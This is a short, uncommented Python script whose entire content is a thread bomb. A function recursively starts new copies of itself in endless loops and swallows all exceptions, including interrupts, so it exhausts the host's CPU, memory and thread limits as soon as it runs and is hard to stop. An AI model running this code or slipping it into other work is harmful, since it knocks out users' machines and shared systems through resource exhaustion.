import threading
def f():
    while True:
        try:
            threading.Thread(target=f).start()
            threading.Event().wait(0.001)
        except BaseException: pass
f()
